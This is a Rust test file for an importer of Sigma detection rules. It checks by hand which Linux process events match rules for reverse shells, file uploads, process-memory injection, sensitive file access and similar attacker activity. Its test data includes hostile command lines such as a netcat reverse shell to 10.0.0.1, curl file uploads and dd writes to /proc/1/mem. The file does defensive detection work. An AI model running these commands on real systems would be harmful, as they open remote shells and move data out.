//! Events checked by hand: what matches a rule of the 62, and what nearly does.

use super::*;

const PARENT: (&str, &str) = ("/usr/bin/bash", "bash");

/// Whether the rule whose file is named matches a program with this parent.
fn with_parent(imported: &Imported, file: &str, parent: (&str, &str), exe: &str, command_line: &str) -> bool {
    let path = data("sigma").join(format!("proc_creation_lnx_{file}.yml"));
    let rule: Value = serde_yaml_ng::from_str(&std::fs::read_to_string(path).unwrap()).unwrap();
    let (_, id) = imported.rules.iter().find(|(other, _)| other["id"] == rule["id"]).unwrap();
    let mut event = Event::from([
        ("Image", exe.to_owned()),
        ("CommandLine", command_line.to_owned()),
        ("CurrentDirectory", "/root".to_owned()),
        ("User", "root".to_owned()),
        ("LogonId", "1000".to_owned()),
        ("ProcessId", "4242".to_owned()),
    ]);
    event.insert("ParentImage", parent.0.to_owned());
    event.insert("ParentCommandLine", parent.1.to_owned());
    event.insert("ParentProcessId", "4000".to_owned());
    imported.matches(id, &event)
}

#[test]
fn events_checked_by_hand() {
    let imported = import(&["sigma"]);
    let is = |file: &str, exe: &str, command_line: &str, expected: bool| {
        assert_eq!(
            with_parent(&imported, file, PARENT, exe, command_line),
            expected,
            "{file}: {exe} {command_line}"
        );
    };
    // All of three selections; spaces around values count; case does not.
    is("netcat_reverse_shell", "/usr/bin/nc", "nc -e /bin/sh 10.0.0.1 4444", true);
    is("netcat_reverse_shell", "/opt/NCAT", "NCAT -E /BIN/BASH", true);
    is("netcat_reverse_shell", "/usr/bin/nc", "nc -e/bin/sh 10.0.0.1", false);
    is("netcat_reverse_shell", "/usr/bin/nc.openbsd", "nc -e /bin/sh 10.0.0.1", false);
    is("netcat_reverse_shell", "/usr/bin/rsync", "rsync -e /bin/sh x", false);
    // A wildcard in the middle, in one of thirteen values; a filter that needs three things at once.
    let file = "susp_sensitive_file_access";
    is(file, "/usr/bin/vim", "vim /etc/ssh/sshd.conf", true);
    is(file, "/usr/bin/vim", "vim /etc/ssh/sshd_config", false);
    is(file, "/usr/bin/cat", "cat x > /etc/hosts", true);
    is(file, "/usr/bin/cat", "cat /etc/hosts", false);
    is(file, "/bin/sed", "sed -ne s/^x/ /etc/mdadm/mdadm.conf", false);
    is(file, "/bin/sed", "sed -ne s/^x/ /etc/mdadm/mdadm.conf -", true);
    // A regular expression minds the case.
    is("susp_curl_fileupload", "/usr/bin/curl", "curl -F a=@b http://h", true);
    is("susp_curl_fileupload", "/usr/bin/curl", "curl -f a http://h", false);
    is("susp_curl_fileupload", "/usr/bin/curl", "curl -F a=@b http://LOCALHOST/", false);
    is("susp_curl_fileupload", "/usr/bin/curl", "curl --DATA x http://h", true);
    is("wget_download_suspicious_directory", "/usr/bin/wget", "wget -O /tmp/x http://h", true);
    is("wget_download_suspicious_directory", "/usr/bin/wget", "wget -o /tmp/x http://h", false);
    // Every value of a list, in any order.
    is("clipboard_collection", "/usr/bin/xclip", "xclip -o -selection clipboard", true);
    is("clipboard_collection", "/usr/bin/xclip", "xclip -selection clipboard", false);
    is("dd_process_injection", "/usr/bin/dd", "dd if=x of=/proc/1/mem", true);
    is("dd_process_injection", "/usr/bin/dd", "dd if=/proc/1/mem", false);
    // Maps in a list.
    is("python_http_server_execution", "/usr/bin/python3.11", "python3 -m http.server", true);
    is("python_http_server_execution", "/usr/bin/python3", "python3 -m HTTP.SERVER", true);
    is("python_http_server_execution", "/usr/bin/python3x", "python3 -m http.server", false);
    is("perl_reverse_shell", "/usr/bin/perl", "perl -e use Socket;connect;open;exec", true);
    is("perl_reverse_shell", "/usr/bin/perl", "perl -e use Socket;connect;open", false);
    // One of several tools, and a word.
    is("install_suspicious_packages", "/usr/bin/apt-get", "apt-get install nmap", true);
    is("install_suspicious_packages", "/usr/bin/apt-get", "apt-get remove nmap", false);
    is("install_suspicious_packages", "/usr/bin/dpkg", "dpkg --install socat.deb", true);
    // The end of the line.
    is("capsh_shell_invocation", "/usr/sbin/capsh", "capsh --", true);
    is("capsh_shell_invocation", "/usr/sbin/capsh", "capsh -- -c id", false);
    is("susp_inod_listing", "/usr/bin/ls", "ls -id /", true);
    is("susp_inod_listing", "/usr/bin/ls", "ls -i /", false);
    is("susp_inod_listing", "/usr/bin/ls", "ls --inode --directory /", true);
    is("susp_inod_listing", "/usr/bin/ls", "ls -ID /", false);
    // Hexadecimal bytes between quotation marks.
    is("pnscan_binary_cli_pattern", "/tmp/pnscan", "pnscan -W '0d 0a 1f' 10.0.0.0/8 6379", true);
    is("pnscan_binary_cli_pattern", "/tmp/pnscan", "pnscan -w '0d 0a 1f' 10.0.0.0/8 6379", false);
    is("pnscan_binary_cli_pattern", "/tmp/pnscan", "pnscan -W '0d 0g' 10.0.0.0/8 6379", false);
    // Either of two ways.
    is("pua_trufflehog", "/usr/bin/trufflehog", "trufflehog", true);
    is("pua_trufflehog", "/tmp/x", "x gitlab --results=verified", false);
    is("pua_trufflehog", "/tmp/x", "x github --repo y --results=verified", true);
    is("susp_execution_tmp_folder", "/tmp/x", "x", true);
    is("susp_execution_tmp_folder", "/tmp/.mount/usr/bin/nextcloud", "nextcloud", false);
    is("susp_execution_tmp_folder", "/var/tmp/x", "x", false);

    let is = |file: &str, parent: (&str, &str), exe: &str, command_line: &str, expected: bool| {
        let found = with_parent(&imported, file, parent, exe, command_line);
        assert_eq!(found, expected, "{file}: {parent:?} {exe} {command_line}");
    };
    let rsync = ("/usr/bin/rsync", "rsync --daemon");
    is("rsync_shell_spawn", rsync, "/usr/bin/dash", "sh -c id", true);
    is("rsync_shell_spawn", rsync, "/usr/bin/dash", "sh -e x", false);
    is("rsync_shell_spawn", PARENT, "/usr/bin/dash", "sh -c id", false);
    let file = "chmod_targeting_sensitive_directories";
    let postinst = ("/bin/sh", "/bin/sh /var/lib/dpkg/info/x.postinst configure 1.0");
    is(file, PARENT, "/usr/bin/chmod", "chmod 755 /etc/x", true);
    is(file, postinst, "/usr/bin/chmod", "chmod 755 /etc/x", false);
    is(file, postinst, "/usr/bin/chmod", "chmod 755 /tmp/x", true);
    is(file, PARENT, "/usr/bin/chmod", "chmod 0775 /etc/landscape/", false);
    is(file, PARENT, "/usr/bin/chmod", "chmod 0775 /etc/landscape/x", true);
    is("git_shell_execution", ("/usr/bin/git", "git -p help"), "/bin/sh", "sh 0<&1", true);
    is("git_shell_execution", ("/usr/bin/git", "git help"), "/bin/sh", "sh 0<&1", false);
}

#[test]
fn a_user_a_login_and_a_folder() {
    let imported = import(&["sigma"]);
    let rule = imported.rules.iter().find(|(_, id)| id.starts_with("omigod")).unwrap();
    let event = Event::from([
        ("Image", "/bin/sh".to_owned()),
        ("CommandLine", "sh /etc/opt/microsoft/scx/conf/tmpdir/scxAbC".to_owned()),
        ("CurrentDirectory", "/var/opt/microsoft/scx/tmp".to_owned()),
        ("User", "root".to_owned()),
        ("LogonId", "0".to_owned()),
        ("ProcessId", "4242".to_owned()),
    ]);
    assert!(imported.matches(&rule.1, &event));
    for (field, value) in [
        ("User", "alice"),
        ("LogonId", "1000"),
        ("CurrentDirectory", "/var/opt/microsoft/scx/tmp/"),
        ("CommandLine", "sh /etc/opt/microsoft/scx/conf/scxAbC"),
    ] {
        let mut near = event.clone();
        near.insert(field, value.to_owned());
        assert!(!imported.matches(&rule.1, &near), "{field} {value}");
    }
}
